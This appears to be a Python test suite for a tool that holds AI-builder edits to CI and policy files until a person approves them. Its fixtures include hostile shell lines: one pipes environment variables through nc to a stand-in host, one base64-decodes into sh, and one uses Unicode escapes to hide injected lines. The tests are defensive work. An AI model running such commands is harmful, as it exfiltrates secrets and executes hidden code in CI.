"""Files that decide verdicts or run in CI are pushed by a build only after a person approved them."""

from __future__ import annotations

import asyncio
import shutil
from pathlib import Path

import pytest

from forgeguard_app.builders.workspace import place_for
from forgeguard_app.flows.builds.answer_review import OutdatedAnswer, ReviewAnswer, answer_build, end_unanswered
from forgeguard_app.flows.builds.cancel_build import cancel_build
from forgeguard_app.projects.deciding_files import is_deciding
from forgeguard_app.simulator.git_http import git
from forgeguard_app.store.build_changes import list_approved
from tests.support.building import PHASES, agent, ready
from tests.support.repositories import WorkTree
from tests.support.running import running

CI = ".github/workflows/ci.yml"
WRITES_CI = f"mkdir -p .github/workflows; echo 'on: push' > {CI}; echo x >> work.txt"
JOBS = "SELECT count(*) FROM procrastinate_jobs WHERE args->>'build_id' = '{}' AND status IN ('todo', 'doing')"


@pytest.mark.parametrize(
    ("path", "decides"),
    [
        (CI, True), (".github/Workflows/CI.yml", True), (".github/workflows", True), (".github", True), ("docs/CODEOWNERS", True),
        (".github/actions/x/action.yml", True), ("boundaries.json", True), ("Forge/Contracts/boundaries.json", True),
        (".github/forgeguard.yml", True), (".gitleaks.toml", True), (".circleci/config.yml", True), (".pre-commit-config.yaml", True),
        ("tools/act/action.yml", True), (".cirrus.yml", True), (".semaphore/semaphore.yml", True), (".tekton/push.yaml", True),
        ("buildspec.yml", True), (".drone.star", True), ("ci/Jenkinsfile.deploy", True), (".github/dependabot.yml", True),
        (".github/settings.yml", True), ("renovate.json5", True), (".gitmodules", True), (".github/scripts/run.sh", True),
        (".github/workflows/README.md", True), (".github/CONTRIBUTING.md", False), (".github/ISSUE_TEMPLATE/bug.yml", False),
        (".github/ISSUE_TEMPLATE.md", False), ("workflows/ci.yml", False), ("src/boundaries.py", False), (".githubx/workflows", True),
        ("sub/OWNERS", True), (".policy.yml", True), (".pullapprove.yml", True), ("bors.toml", True), (".kodiak.toml", True),
        (".taskcluster.yml", True), (".readthedocs.yaml", True), (".devcontainer/devcontainer.json", True), (".gitpod.yml", True),
        ("heroku.yml", True), ("wrangler.toml", True), ("railway.json", True), ("lefthook.yml", True), ("serverless.yml", True),
        (".do/app.yaml", True), (".ebextensions/a.config", True), ("sub/.npmrc", True), ("sub/.new-service/file", True),
        ("new-service.jsonc", True), (".gitignore/file", True), ("sub/.gitignore", False), (".editorconfig", False),
        ("README.md", False), ("pyproject.toml", False), ("package-lock.json", False), ("tsconfig.build.json", False),
        ("data/new.json", False), ("OWNERS.py", False), ("src/app.py", False), ("Makefile", False),
    ],
)  # fmt: skip
def test_which_files_decide(path: str, decides: bool) -> None:
    assert is_deciding(path) is decides


async def test_nothing_of_a_phase_is_pushed_before_a_person_approves(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
    async with running(dsn, tmp_path / "p", builder=agent(WRITES_CI)) as product:
        place = await ready(product, tree)
        build, changes = await place.asked(await place.start())
        [change] = changes
        assert (change.path, change.kind) == (CI, "added")
        assert "+on: push" in change.difference
        assert f"forgeguard/build-{build.id}" not in (await git(place.repository.folder, "branch", "--list")).decode()
        async with product.pool.acquire() as connection:
            assert await connection.fetchval(JOBS.format(build.id)) == 0, "who waits for a person holds no slot"
        assert [phase.status for phase in await place.phases(build.id)] == ["awaiting_approval", "pending"]
        with pytest.raises(OutdatedAnswer):
            await answer_build(product.pool, build, place.person, ReviewAnswer("0" * 40, approves=True))
        answers = [place.answer(build, approves=True) for _ in range(4)]
        failed = [outcome for outcome in await asyncio.gather(*answers, return_exceptions=True) if outcome is not None]
        assert [type(outcome) for outcome in failed] == [OutdatedAnswer] * 3, "one answer counts"
        done = await place.ended(build.id)
        assert done.status == "completed", await place.text(build.id)
        assert await place.show(f"{done.branch}:{CI}") == "on: push\n"
        assert await place.show(f"{done.branch}:work.txt") == "x\nx\n", (
            "the second phase wrote the same file: no question"
        )
        text = await place.text(build.id)
        assert "approval is needed" in text
        assert f"mona approved the changes of {CI}." in text
        async with product.pool.acquire() as connection:
            assert [change.approved_login for change in await list_approved(connection, build.id, 9)] == ["mona"]


@pytest.mark.nightly
async def test_another_content_is_another_question(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
    script = f"{WRITES_CI}; [ $(wc -l < work.txt) -lt 2 ] || echo 'run: evil' >> {CI}"
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree)
        first, _ = await place.asked(await place.start())
        await place.answer(first, approves=True)
        second, changes = await place.asked(first.id)
        assert second.phase_number == 1
        assert [change.kind for change in changes] == ["changed"]
        assert "+run: evil" in changes[0].difference
        assert await place.show(f"{second.branch}:{CI}") == "on: push\n"


@pytest.mark.nightly
async def test_an_approved_content_that_comes_back_later_is_another_question(
    dsn: str, tmp_path: Path, tree: WorkTree
) -> None:
    phases = "".join(PHASES.replace("Phase 0", f"Phase {n}").replace("Phase 1", f"Phase {n + 1}") for n in (0, 2))
    script = f"{WRITES_CI}; [ $(wc -l < work.txt) != 2 ] || echo 'on: pull_request' > {CI}"
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree, phases)
        build, asked = await place.asked(await place.start())
        for number in range(3):
            assert build.phase_number == number
            assert [change.path for change in asked] == [CI]
            await place.answer(build, approves=True)
            if number < 2:
                build, asked = await place.asked(build.id)
        assert (await place.ended(build.id)).status == "completed", "the fourth phase wrote the same file: no question"


@pytest.mark.nightly
async def test_a_file_that_a_change_of_settings_makes_decide_is_a_question_too(
    dsn: str, tmp_path: Path, tree: WorkTree
) -> None:
    settings = "checks: {A4: {boundaries: [arch.json]}}"
    script = f"mkdir -p .github; echo '{settings}' > .github/forgeguard.yml; echo '{{\"layers\": []}}' > arch.json"
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree)
        _, changes = await place.asked(await place.start())
        assert [change.path for change in changes] == [".github/forgeguard.yml", "arch.json"]


@pytest.mark.nightly
async def test_what_is_handed_back_reaches_the_builder_with_the_reason(
    dsn: str, tmp_path: Path, tree: WorkTree
) -> None:
    script = (
        f"if grep -q 'No deploys' \"$FORGEGUARD_FINDINGS\"; then rm -rf .github; else {WRITES_CI}; fi; date +%N > t"
    )
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree)
        build, _ = await place.asked(await place.start())
        await place.answer(build, approves=False, reason="No deploys here, please.")
        second, changes = await place.asked(build.id)  # of the second phase
        assert second.phase_number == 1
        assert [change.path for change in changes] == [CI]
        assert (await place.phases(build.id))[0].loops == 1
        paths = (await git(place.repository.folder, "ls-tree", "-r", "--name-only", str(build.branch))).decode()
        assert CI not in paths
        for _ in range(2):
            await place.answer(second, approves=False, reason="Never.")
            second = await place.ended(build.id) if second.loop_count == 2 else (await place.asked(build.id))[0]
        await place.answer(second, approves=False)
        done = await place.ended(build.id)
        assert done.status == "failed"
        assert "3 times in a row" in str(done.error_detail)


async def test_who_waits_for_an_approval_is_cancelled_at_once_or_ends_in_time(
    dsn: str, tmp_path: Path, tree: WorkTree
) -> None:
    async with running(dsn, tmp_path / "p", builder=agent(WRITES_CI)) as product:
        place = await ready(product, tree)
        build, _ = await place.asked(await place.start())
        await cancel_build(product.pool, build, "mona")
        assert (await place.build(build.id)).status == "cancelled"
        assert [phase.status for phase in await place.phases(build.id)] == ["cancelled", "pending"]
        with pytest.raises(OutdatedAnswer):
            await place.answer(build, approves=True)
        build, _ = await place.asked(await place.start())
        assert await end_unanswered(product.pool) == 0
        async with product.pool.acquire() as connection:
            await connection.execute(
                "UPDATE builds SET waiting_since = now() - interval '8 days' WHERE id = $1", build.id
            )
        assert await end_unanswered(product.pool) == 1
        done = await place.ended(build.id)
        assert done.status == "failed"
        assert "Nobody approved" in str(done.error_detail)
        assert await place.status() == "contracts_ready"


@pytest.mark.parametrize("same", [True, False])
async def test_an_approval_holds_for_its_content_where_the_work_was_lost(
    dsn: str, tmp_path: Path, tree: WorkTree, same: bool
) -> None:
    marks = "" if same else f"; date +%N >> {CI}"
    async with running(dsn, tmp_path / "p", builder=agent(WRITES_CI + marks)) as product:
        place = await ready(product, tree)
        build, _ = await place.asked(await place.start())
        shutil.rmtree(place_for(product.context.home) / str(build.id))  # another machine has none of it
        await place.answer(build, approves=True)
        if same:
            assert (await place.ended(build.id)).status == "completed"
        else:
            again, _ = await place.asked(build.id)
            assert (again.phase_number, again.review_sha == build.review_sha) == (0, False)
        assert "built again" in await place.text(build.id)


@pytest.mark.nightly
@pytest.mark.parametrize(
    ("script", "reason"),
    [
        (f"head -c 40000 /dev/zero | tr '\\0' x > {CI}", "longer than the 32 KB"),
        (f"yes '' | head -n 3000 > {CI}", "more than the 2,000 lines"),
        (f"printf 'on: push\\0' > {CI}", "is no text"),
        (f"echo x > run.yml; ln -sf ../../run.yml {CI}", "is a link, whose target may change"),
        (f"echo 'run: git clone https://x:$(env|nc$IFS)@example.invalid/a' > {CI}", "looks like a secret"),
        (f'echo "run: echo $(head -c 60 /dev/urandom | base64 -w0) | base64 -d | sh" > {CI}', ""),
    ],
)
async def test_what_nobody_could_review_goes_back_to_the_builder(
    dsn: str, tmp_path: Path, tree: WorkTree, script: str, reason: str
) -> None:
    writes = f"date +%N > t; mkdir -p .github/workflows; {script}"
    async with running(dsn, tmp_path / "p", builder=agent(writes)) as product:
        place = await ready(product, tree)
        done = await place.ended(await place.start())
        assert done.status == "failed"
        assert reason in str(done.error_detail)
        assert CI in str(done.error_detail)


@pytest.mark.nightly
async def test_changes_of_too_many_lines_together_go_back_to_the_builder(
    dsn: str, tmp_path: Path, tree: WorkTree
) -> None:
    script = "mkdir -p .github/workflows; for n in 1 2 3; do yes '' | head -n 1900 > .github/workflows/$n.yml; done"
    async with running(dsn, tmp_path / "p", builder=agent(f"{script}; date +%N > t")) as product:
        place = await ready(product, tree)
        assert "at most 4,000" in str((await place.ended(await place.start())).error_detail)


@pytest.mark.nightly
async def test_a_file_that_takes_the_place_of_a_link_is_looked_at_too(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
    script = f"rm {CI}; printf '# \\000' > {CI}; date +%N > t"
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree)
        (tree.folder / ".github/workflows").mkdir(parents=True)
        (tree.folder / CI).symlink_to("../../README.md")
        tree.commit({"b.txt": "x"})
        await product.push(tree, place.repository)
        done = await place.ended(await place.start())
        assert "is no text" in str(done.error_detail), await place.text(done.id)


async def test_a_difference_shows_every_line_and_mode(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
    script = f"{WRITES_CI}; printf -- '++ hidden\\n-- also\\n' >> {CI}; chmod 755 {CI}"
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree)
        _, changes = await place.asked(await place.start())
        shown = {change.path: change.difference for change in changes}
        assert "+++ hidden" in shown[CI]
        assert "+-- also" in shown[CI]
        assert "new file mode 100755" in shown[CI]


@pytest.mark.nightly
async def test_boundaries_that_the_settings_name_decide_whatever_their_names(
    dsn: str, tmp_path: Path, tree: WorkTree
) -> None:
    script = "echo '{\"layers\": []}' > arch/rules.json; date +%N > arch/other.json; date +%N > arch/$'\\xff'"
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree)
        rules = '{"layers": [{"name": "all", "glob": "**"}]}'
        settings = "checks: {A4: {boundaries: ['arch/r*.json']}}\n"
        tree.commit({".github/forgeguard.yml": settings, "arch/rules.json": rules})
        await product.push(tree, place.repository)
        build, changes = await place.asked(await place.start())
        assert [(change.path, change.kind) for change in changes] == [("arch/rules.json", "changed")]
        await place.answer(build, approves=True)
        assert (await place.ended(build.id)).status == "completed"
        assert "- `arch/rules.json`\n" in place.pulls()[0].body


@pytest.mark.nightly
async def test_escapes_do_not_push_a_line_out_of_sight(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
    script = f'{WRITES_CI}; python3 -c \'print("# " + chr(0x202e) * 9000); print("run: evil")\' >> {CI}'
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree)
        _, [change] = await place.asked(await place.start())
        assert "\u202e" not in change.difference
        assert change.difference.endswith("+run: evil")


@pytest.mark.nightly
async def test_the_project_s_own_contracts_need_no_approval(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
    script = 'mkdir -p Forge/Contracts; cp "$FORGEGUARD_CONTRACTS"/* Forge/Contracts/; date +%N > t'
    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
        place = await ready(product, tree)
        assert (await place.ended(await place.start())).status == "completed"
